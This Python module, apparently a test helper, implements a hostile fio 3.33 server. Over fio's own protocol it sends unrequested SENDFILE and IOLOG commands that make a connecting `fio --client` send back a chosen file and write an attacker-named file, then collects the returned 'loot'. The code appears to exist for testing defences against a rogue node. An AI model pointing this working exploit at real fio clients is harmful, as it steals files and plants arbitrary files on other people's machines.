"""A fio server turned against its client: what a node that does not follow ssdlab's rules can
send the seat's `fio --client` over fio's own network protocol.

It speaks fio 3.33's protocol as fio's `server.h` and `server.c` define it (github.com/axboe/fio,
tag fio-3.33: `struct fio_net_cmd`, `FIO_SERVER_VER` 97, the CRC-16 of `crc/crc16.c` over the
command's first 20 bytes and over its payload, little-endian on the wire). On a connection it
sends, unasked, the two orders fio's client obeys without a check (`client.c`):

- `FIO_NET_CMD_SENDFILE` with a path of its choosing: the client reads that file and sends it
  back (`fio_send_file`); the server keeps what came back;
- `FIO_NET_CMD_IOLOG` flagged `STORE_COMPRESSED` with a name of its choosing: the client writes
  the payload as `NAME.<the server's name as given to --client>` (`fio_client_handle_iolog`),

then `FIO_NET_CMD_QUIT`, which ends the client. Nothing here is a recording of a real server:
it is an attacker, built from the protocol's definition.
"""

import socket
import struct
import threading
from dataclasses import dataclass, field
from pathlib import Path

VERSION = 97  # FIO_SERVER_VER of fio 3.33
QUIT, SENDFILE, IOLOG = 1, 21, 17
STORE_COMPRESSED = 2
NAME_MAX = 256  # FIO_NET_NAME_MAX
HEADER = struct.Struct("<HHIQIHH")  # version, opcode, flags, tag, pdu_len, cmd_crc16, pdu_crc16
IOLOG_HEADER = struct.Struct("<QIIIIII")  # nr_samples … log_hist_coarseness, then name[256]
REPLY = struct.Struct("<II")  # cmd_sendfile_reply: size, error (an errno), then the data


def crc16(data: bytes) -> int:
    """fio's `fio_crc16`: CRC-16 with the reflected polynomial 0xA001, starting from 0."""
    crc = 0
    for byte in data:
        crc ^= byte
        for _ in range(8):
            crc = (crc >> 1) ^ 0xA001 if crc & 1 else crc >> 1
    return crc


def command(opcode: int, payload: bytes = b"", tag: int = 0) -> bytes:
    head = struct.pack("<HHIQI", VERSION, opcode, 0, tag, len(payload))
    return head + struct.pack("<HH", crc16(head), crc16(payload)) + payload


@dataclass
class Loot:
    """What the server got back: the SENDFILE reply's errno and data."""

    error: int | None = None
    data: bytes | None = None
    opcodes: list[int] = field(default_factory=list)  # every command the client sent


def _read_exact(conn: socket.socket, size: int) -> bytes | None:
    chunks = b""
    while len(chunks) < size:
        part = conn.recv(size - len(chunks))
        if not part:
            return None
        chunks += part
    return chunks


class HostileServer:
    """Listens on a unix socket; serves one client with the attack, in a thread."""

    def __init__(self, socket_path: Path, steal: str, plant: str, planted: bytes) -> None:
        self.loot = Loot()
        self._steal, self._plant, self._planted = steal, plant, planted
        self._listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self._listener.bind(str(socket_path))
        self._listener.listen(1)
        self._listener.settimeout(120)
        self._thread = threading.Thread(target=self._serve, daemon=True)

    def __enter__(self) -> "HostileServer":
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._listener.close()
        self._thread.join(timeout=120)

    def _serve(self) -> None:
        try:
            conn, _ = self._listener.accept()
        except OSError:
            return
        with conn:
            conn.settimeout(120)
            path = self._steal.encode().ljust(NAME_MAX, b"\0")
            conn.sendall(command(SENDFILE, path, tag=7))
            name = self._plant.encode().ljust(NAME_MAX, b"\0")
            log = IOLOG_HEADER.pack(0, 0, 0, STORE_COMPRESSED, 0, 0, 0) + name + self._planted
            conn.sendall(command(IOLOG, log))
            while self.loot.error is None:  # until the client answers the SENDFILE
                head = _read_exact(conn, HEADER.size)
                if head is None:
                    return
                _, opcode, _, _, length, _, _ = HEADER.unpack(head)
                payload = _read_exact(conn, length) or b""
                self.loot.opcodes.append(opcode)
                if opcode == SENDFILE and len(payload) >= REPLY.size:
                    size, error = REPLY.unpack_from(payload)
                    self.loot.error = error
                    self.loot.data = payload[REPLY.size : REPLY.size + size] if not error else None
            conn.sendall(command(QUIT))
